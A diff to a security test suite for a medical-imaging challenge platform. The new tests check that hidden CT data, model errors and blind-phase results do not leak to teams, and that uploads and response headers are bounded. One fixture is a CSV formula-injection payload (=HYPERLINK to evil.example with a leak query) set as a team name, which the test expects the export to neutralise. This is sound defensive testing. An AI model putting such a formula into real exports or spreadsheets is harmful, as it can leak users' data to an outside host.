@@ -16,7 +16,8 @@ import { createPhaseWithCases, createTeam, writeMask, writeTarGz, writeZip, type
 import { createTestApp, type Agent, type Reply, type TestApp } from '../helpers/test-app.ts';
 import { tokenIn, waitForOutboxMail } from '../helpers/mail.ts';
 import { TusClient } from '../reliability/tus-helpers.ts';
-import { corruptGzip, niftiHeaderOnly } from './hostile-inputs.ts';
+import { corruptGzip, niftiHeaderOnly, niftiWithBrokenGeometry } from './hostile-inputs.ts';
+import { BLIND_TD, GOLD_DERIVED, MODEL_ERROR_TEXT, sideDoors, type SideDoors } from './side-door-fixtures.ts';
 
 const TABLES = ['users', 'sessions', 'api_tokens', 'challenges', 'phases', 'cases', 'gold_standards', 'teams', 'team_members', 'blobs', 'submissions', 'submission_files', 'evaluations', 'audit_log', 'resumable_uploads'];
 const CLIENT_INDEX = fileURLToPath(new URL('../../dist/client/index.html', import.meta.url));
@@ -66,6 +67,7 @@ describe('hostile inputs: each rejected with the right status and no side effect
   let token: string;
   let tusToken: string;
   let ids: { otherSubmission: number; otherEvaluation: number; ownHiddenSubmission: number; ownHiddenEvaluation: number; caseId: number; otherUpload: string };
+  let doors: SideDoors;
   const rows: Row[] = [];
 
   async function snapshot() {
@@ -106,6 +108,7 @@ describe('hostile inputs: each rejected with the right status and no side effect
     const otherToken = (await other.member.post('/api/tokens', { name: 'other' })).body.token;
     const otherUpload = (await new TusClient(t.baseUrl, otherToken).create(phase.phaseId, 'ATM_001.nii.gz', 100)).body.upload.id;
     ids = { otherSubmission, otherEvaluation, ownHiddenSubmission: own.body.submission.id, ownHiddenEvaluation, caseId: phase.cases.ATM_001, otherUpload };
+    doors = await sideDoors(t);
   });
 
   after(async function () {
@@ -265,8 +268,142 @@ describe('hostile inputs: each rejected with the right status and no side effect
     } },
   );
 
+  // ---- side doors: hidden data and blind results reached another way (issue 11, finding 3) ----
+  const FORMULA_AFTER_SEPARATOR = 'x;=HYPERLINK("http://evil.example/?leak","open me")';
+  rows.push(
+    { attack: 'side door: a model\'s error text (quoting the hidden CT\'s shape) in a phase that hides per-case results', send: () => doors.modelTeam.member.get(`/api/submissions/${doors.modelSubmission}/model`), expect: { status: 200 }, accepted: async (reply) => {
+      const run = reply.body.runs[0];
+      assert.equal(run.error.code, 'MODEL_RUNTIME_ERROR');
+      assert.match(run.error.message, /onnxruntime failed while running the model/, 'the catalogue\'s hint instead of the text');
+      assert.doesNotMatch(reply.text, /Reshape|487/);
+      assert.equal(run.patchesTotal, null, 'the patch count follows the hidden CT\'s size');
+    } },
+    { attack: 'side door: the same model error on the submission page', send: () => doors.modelTeam.member.get(`/api/submissions/${doors.modelSubmission}`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.deepEqual(reply.body.cases[0].error, { code: 'MODEL_RUNTIME_ERROR', message: 'onnxruntime failed while running the model; check it runs on the manifest\'s input shape', owner: 'team' });
+      assert.deepEqual(reply.body.cases[0].progress, { stage: 'inference' }, 'the patch count follows the hidden CT\'s size');
+      assert.doesNotMatch(reply.text, /Reshape|487|patchesTotal/);
+    } },
+    { attack: 'side door: the model error text stays with the organisers (who do see it)', send: () => doors.modelPhase.organiser.get(`/api/submissions/${doors.modelSubmission}/model`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.equal(reply.body.runs[0].error.message, MODEL_ERROR_TEXT);
+    } },
+    { attack: 'side door: organiser turns on teamsInspectIn3d in a model phase', send: () => doors.modelPhase.organiser.patch(`/api/phases/${doors.modelPhase.phaseId}`, { teamsInspectIn3d: true }), expect: { status: 422, code: 'VALIDATION_FAILED', message: /model phase/ } },
+    { attack: 'side door: organiser creates a model phase with teamsInspectIn3d', send: () => doors.modelPhase.organiser.post(`/api/challenges/${doors.modelPhase.slug}/phases`, { name: 'inspectable models', kind: 'model', opensAt: '2030-01-01T00:00:00Z', closesAt: '2030-02-01T00:00:00Z', teamsInspectIn3d: true }), expect: { status: 422, code: 'VALIDATION_FAILED', message: /model phase/ } },
+    ...(['ct', 'gold'] as const).map((volume): Row => ({
+      attack: `side door: a model phase's ${volume === 'ct' ? 'CT' : 'gold standard'} through the viewer, with teamsInspectIn3d forced on in the database`,
+      prepare: async () => {
+        await t.db.query('alter table phases drop constraint phases_no_inspection_of_model_phases');
+        await t.db.query('update phases set teams_inspect_in_3d = true, show_case_results = true where id = $1', [doors.modelPhase.phaseId]);
+        await t.db.query(`update evaluations set status = 'done', metrics = '{"TD": 50}' where id = $1`, [doors.modelEvaluation]);
+      },
+      send: async () => {
+        const reply = await doors.modelTeam.member.get(`/api/evaluations/${doors.modelEvaluation}/viewer/${volume}`);
+        await t.db.query('update phases set teams_inspect_in_3d = false, show_case_results = false where id = $1', [doors.modelPhase.phaseId]);
+        await t.db.query(`update evaluations set status = 'failed', metrics = null where id = $1`, [doors.modelEvaluation]);
+        await t.db.query('alter table phases add constraint phases_no_inspection_of_model_phases check (kind <> \'model\' or not teams_inspect_in_3d)');
+        return reply;
+      },
+      expect: { status: 404, code: 'NOT_FOUND', message: /model phase/ },
+    })),
+    { attack: 'side door: the viewer JSON of an own case sends only the allow-listed metrics', send: () => doors.inspectTeam.member.get(`/api/evaluations/${doors.inspectEvaluation}/viewer`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.equal(reply.body.metrics.TD, 91.25);
+      for (const key of Object.keys(GOLD_DERIVED)) assert.equal(reply.body.metrics[key], undefined, `${key} is not sent`);
+      assert.doesNotMatch(reply.text, /424242|31337/);
+    } },
+    { attack: "side door: a model phase's case list read by a team (the hidden CTs' grids)", send: () => doors.modelTeam.member.get(`/api/phases/${doors.modelPhase.phaseId}/cases`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.ok(reply.body.cases.length > 0);
+      for (const c of reply.body.cases) assert.equal(c.geometry, null, `${c.name}: no size, spacing, origin or direction of a hidden CT`);
+    } },
+    { attack: "side door: a model phase's case list read by its organisers (allowed, with the grids)", send: () => doors.modelPhase.organiser.get(`/api/phases/${doors.modelPhase.phaseId}/cases`), expect: { status: 200 }, accepted: async (reply) => {
+      for (const c of reply.body.cases) assert.equal(c.geometry.size.length, 3);
+    } },
+    { attack: 'side door: a pending team read by id (the public list hides it)', send: () => outsider.get(`/api/teams/${doors.pendingTeam}`), expect: { status: 404, code: 'NOT_FOUND' } },
+    { attack: 'side door: a rejected team read by id, anonymously', send: () => t.agent().get(`/api/teams/${doors.rejectedTeam}`), expect: { status: 404, code: 'NOT_FOUND' } },
+    { attack: 'side door: a rejected team read by its organisers (allowed)', send: () => doors.inspectPhase.organiser.get(`/api/teams/${doors.rejectedTeam}`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.equal(reply.body.team.status, 'rejected');
+    } },
+  );
+
+  // ---- blind phases: results withheld from teams until the phase closes (resultsVisibility 'after-close') ----
+  rows.push(
+    { attack: 'blind phase: the leaderboard before the close', send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.deepEqual(reply.body.entries, []);
+      assert.equal(reply.body.withheld.visibility, 'after-close');
+      assert.doesNotMatch(reply.text, /88\.8/);
+    } },
+    { attack: 'blind phase: the leaderboard, anonymously', send: () => t.agent().get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.deepEqual(reply.body.entries, []);
+    } },
+    { attack: 'blind phase: the own submission page (what carina status shows)', send: () => doors.blindTeam.member.get(`/api/submissions/${doors.blindSubmission}`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.equal(reply.body.submission.aggregate, null);
+      assert.equal(reply.body.submission.caseResultsShown, false);
+      assert.equal(reply.body.cases[0].metrics, null);
+      assert.doesNotMatch(reply.text, /88\.8/);
+    } },
+    { attack: 'blind phase: the own submissions list', send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/submissions/mine`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.equal(reply.body.submissions[0].aggregate, null);
+      assert.doesNotMatch(reply.text, /88\.8/);
+    } },
+    { attack: 'blind phase: the own case in the 3D viewer', send: () => doors.blindTeam.member.get(`/api/evaluations/${doors.blindEvaluation}/viewer`), expect: { status: 404, code: 'NOT_FOUND', message: /per-case results now/ } },
+    { attack: 'blind phase: the organisers see the leaderboard before the close', send: () => doors.blindPhase.organiser.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.equal(reply.body.entries[0].mean.TD, BLIND_TD);
+    } },
+    { attack: 'blind phase: once closed, the results reach the team', prepare: async () => {
+      await t.db.query(`update phases set opens_at = now() - interval '2 days', closes_at = now() - interval '1 hour' where id = $1`, [doors.blindPhase.phaseId]);
+    }, send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.equal(reply.body.entries[0].mean.TD, BLIND_TD);
+      assert.equal(reply.body.withheld, undefined);
+      const detail = await doors.blindTeam.member.get(`/api/submissions/${doors.blindSubmission}`);
+      assert.equal(detail.body.submission.aggregate.mean.TD, BLIND_TD);
+    } },
+    { attack: 'blind phase (never): an organiser makes the results private for good', prepare: async () => {
+      await t.db.query(`update phases set results_visibility = 'never' where id = $1`, [doors.blindPhase.phaseId]);
+    }, send: () => doors.blindTeam.member.get(`/api/phases/${doors.blindPhase.phaseId}/leaderboard`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.deepEqual(reply.body.entries, []);
+      assert.deepEqual(reply.body.withheld, { visibility: 'never', visibleFrom: null });
+    } },
+  );
+
+  // ---- smaller side doors: broken geometry, CSV formulas, security headers (issue 11, finding 6) ----
+  rows.push(
+    ...(['spacing', 'origin', 'direction'] as const).map((field): Row => ({
+      attack: `NaN geometry: a mask whose NIfTI ${field} holds ${field === 'direction' ? 'infinity' : 'NaN'}`,
+      send: async () => submit([niftiWithBrokenGeometry(readFileSync(goodFile()), file('ATM_001.nii.gz'), field, field === 'direction' ? Number.POSITIVE_INFINITY : Number.NaN)]),
+      expect: { status: 422, code: 'VALIDATION_FAILED', message: /not a finite number/ },
+    })),
+    { attack: 'CSV formula after a separator: a team named x;=HYPERLINK(…) in the organisers\' export', prepare: async () => {
+      await t.db.query('update teams set name = $2 where id = $1', [other.teamId, FORMULA_AFTER_SEPARATOR]);
+    }, send: () => phase.organiser.get(`/api/phases/${phase.phaseId}/export.csv?table=results`), expect: { status: 200 }, accepted: async (reply) => {
+      assert.ok(reply.text.includes(`"'x;=HYPERLINK(""http://evil.example/?leak"",""open me"")"`), 'quoted, with a leading apostrophe');
+      assert.doesNotMatch(reply.text, /(^|,)x;=HYPERLINK/m, 'never unquoted');
+    } },
+    ...(['/api/challenges', '/api/no-such-route', '/healthz'] as const).map((path): Row => ({
+      attack: `security headers: a page framed or sniffed by another site (${path})`,
+      send: () => t.agent().get(path),
+      expect: { status: path === '/api/no-such-route' ? 404 : 200, ...(path === '/api/no-such-route' ? { code: 'NOT_FOUND' } : {}) },
+      accepted: async (reply) => {
+        const csp = reply.headers.get('content-security-policy') ?? '';
+        assert.match(csp, /frame-ancestors 'none'/);
+        assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
+        assert.doesNotMatch(csp, /'unsafe-eval'|script-src[^;]*unsafe-inline/);
+        assert.equal(reply.headers.get('x-content-type-options'), 'nosniff');
+        assert.equal(reply.headers.get('x-frame-options'), 'DENY');
+        assert.equal(reply.headers.get('referrer-policy'), 'no-referrer');
+      },
+    })),
+  );
+
+  // ---- disks: what one team can make the platform hold (issue 11, finding 5; more in bounded-disks.test.ts) ----
+  rows.push(
+    { attack: 'disk: a resumable reservation larger than the case grid can need (129 MiB for a 16×16×12 case)', send: () => new TusClient(t.baseUrl, tusToken).create(phase.phaseId, 'ATM_001.nii.gz', 129 * 2 ** 20), expect: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: /larger than 128 MiB/ } },
+    { attack: 'disk: a reservation that never receives a byte expires within minutes, not a day', send: () => new TusClient(t.baseUrl, tusToken).create(phase.phaseId, 'ATM_001.nii.gz', 4096), expect: { status: 201 }, accepted: async (reply) => {
+      const expiresInS = (Date.parse(reply.body.upload.expiresAt) - Date.now()) / 1000;
+      assert.ok(expiresInS > 0 && expiresInS <= 600, `expires in ${expiresInS.toFixed(0)} s`);
+      assert.equal((await new TusClient(t.baseUrl, tusToken).request('DELETE', `/api/uploads/${reply.body.upload.id}`)).status, 204);
+    } },
+  );
+
   it('the table covers every kind of attack of the issue', () => {
-    for (const kind of [/corrupt gzip/, /10\^12 voxels/, /zip-slip/, /decompression bomb/, /symbolic link in a tar/, /malformed session cookie/, /mint/, /unverified account/, /verification link/, /X-Forwarded-For/, /as JSON|instead of multipart/, /oversized multipart field/, /SQL-shaped/, /HTML/, /no CSRF/, /expired session/, /revoked/, /CT|gold-standard/, /hidden per-case/, /another team's/]) {
+    for (const kind of [/corrupt gzip/, /10\^12 voxels/, /zip-slip/, /decompression bomb/, /symbolic link in a tar/, /malformed session cookie/, /mint/, /unverified account/, /verification link/, /X-Forwarded-For/, /as JSON|instead of multipart/, /oversized multipart field/, /SQL-shaped/, /HTML/, /no CSRF/, /expired session/, /revoked/, /CT|gold-standard/, /hidden per-case/, /another team's/, /side door: a model's error/, /teamsInspectIn3d/, /viewer JSON/, /pending team/, /case list/, /blind phase/, /NaN geometry/, /CSV formula/, /security headers/, /disk: a resumable reservation larger/, /disk: a reservation that never/]) {
       assert.ok(rows.some((row) => kind.test(row.attack)), `a row for ${kind}`);
     }
   });
